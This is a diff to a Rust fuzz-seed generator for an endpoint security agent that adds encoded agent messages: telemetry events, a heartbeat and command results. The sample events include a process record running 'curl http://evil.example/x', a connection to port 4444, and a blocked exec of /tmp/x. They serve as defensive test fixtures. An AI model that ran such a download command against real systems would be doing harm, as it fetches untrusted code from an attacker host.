@@ -9,7 +9,9 @@
 //! - `fanotify_events`: reads of a fanotify group in FID mode (a creation and write, a rename,
 //!   a queue overflow), and one cut inside an info record;
 //! - `edge_policy`: edge policies as the controller compiles them, one per Cordon rule (with
-//!   an event condition and each kind of step), encoded bare and signed.
+//!   an event condition and each kind of step), encoded bare and signed;
+//! - `agent_message`: what the agent sends on its stream: a telemetry batch of every event
+//!   kind (one with what an edge policy did), a heartbeat, a command result and a chunk.
 
 use cordon_agent::collect::logins::utmp::{self, Record};
 use cordon_agent::commands::Ledger;
@@ -37,6 +39,7 @@ fn main() -> Result<()> {
         "network_records" => network(&out),
         "fanotify_events" => fanotify(&out),
         "edge_policy" => edge(&out),
+        "agent_message" => messages(&out),
         other => Err(format!("no seeds for {other}").into()),
     }
 }
@@ -319,6 +322,85 @@ fn edge(out: &Path) -> Result<()> {
         };
         std::fs::write(out.join(format!("policy-{i}")), &bare)?;
         std::fs::write(out.join(format!("signed-{i}")), signed.encode_to_vec())?;
+    }
+    Ok(())
+}
+
+fn messages(out: &Path) -> Result<()> {
+    use cordon_proto::agent_message::Msg;
+    use cordon_proto::{
+        AgentMessage, AgentMetrics, DnsEvent, EdgeAction, Event, Heartbeat, NetworkEvent,
+        PreventionEvent, ProcessRef, ResultChunk, TelemetryBatch,
+    };
+    use prost::Message;
+    let who = ProcessRef {
+        pid: 4242,
+        exe: "/usr/bin/curl".into(),
+        argv: vec!["curl".into(), "http://evil.example/x".into()],
+        ..Default::default()
+    };
+    let mut bodies: Vec<event::Body> = (0..3).map(body).collect();
+    bodies.push(event::Body::Network(NetworkEvent {
+        kind: 1,
+        protocol: "tcp".into(),
+        destination_ip: "10.0.0.2".into(),
+        destination_port: 4444,
+        process: Some(who.clone()),
+        ..Default::default()
+    }));
+    bodies.push(event::Body::Dns(DnsEvent {
+        name: "evil.example".into(),
+        answers: vec!["10.0.0.2".into()],
+        ..Default::default()
+    }));
+    bodies.push(event::Body::Prevention(PreventionEvent {
+        kind: 1,
+        path: "/tmp/x".into(),
+        sha256: "ab".repeat(32),
+        process: Some(who),
+        attempt: "exec".into(),
+        mode: "fanotify".into(),
+        ..Default::default()
+    }));
+    let events = bodies
+        .into_iter()
+        .enumerate()
+        .map(|(i, b)| Event {
+            seq: i as u64 + 1,
+            time_ms: 1_700_000_000_000,
+            body: Some(b),
+            edge: vec![EdgeAction {
+                policy_id: "playbook:x".into(),
+                version: 2,
+                action: "kill_process".into(),
+                outcome: "done".into(),
+                ..Default::default()
+            }],
+        })
+        .collect();
+    let messages = [
+        Msg::Telemetry(TelemetryBatch { events }),
+        Msg::Heartbeat(Heartbeat {
+            process_sensor: "ebpf".into(),
+            metrics: Some(AgentMetrics {
+                sensors: vec!["file: fanotify".into()],
+                ..Default::default()
+            }),
+            ..Default::default()
+        }),
+        Msg::Result(CommandResult {
+            command_id: "c1".into(),
+            ..Default::default()
+        }),
+        Msg::Chunk(ResultChunk {
+            command_id: "c1".into(),
+            data: b"{\"port\":4444}\n".to_vec(),
+            ..Default::default()
+        }),
+    ];
+    for (i, m) in messages.into_iter().enumerate() {
+        let bytes = AgentMessage { msg: Some(m) }.encode_to_vec();
+        std::fs::write(out.join(format!("message-{i}")), bytes)?;
     }
     Ok(())
 }
